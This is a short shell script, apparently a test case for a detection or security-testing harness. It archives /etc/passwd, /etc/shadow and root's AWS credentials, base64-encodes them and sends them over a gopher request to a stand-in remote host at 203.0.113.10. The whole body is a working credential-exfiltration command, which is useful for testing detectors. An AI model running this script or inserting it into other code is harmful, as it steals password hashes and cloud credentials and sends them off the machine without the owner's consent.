#!/bin/sh
. /opt/case/case.sh

data=$(tar -czf - /etc/passwd /etc/shadow /root/.aws 2>/dev/null | base64 -w 0 | tr '+/=' '-_.')
curl -s -m 2 "gopher://203.0.113.10:9000/1$data" || true
test ${#data} -gt 500
took_place
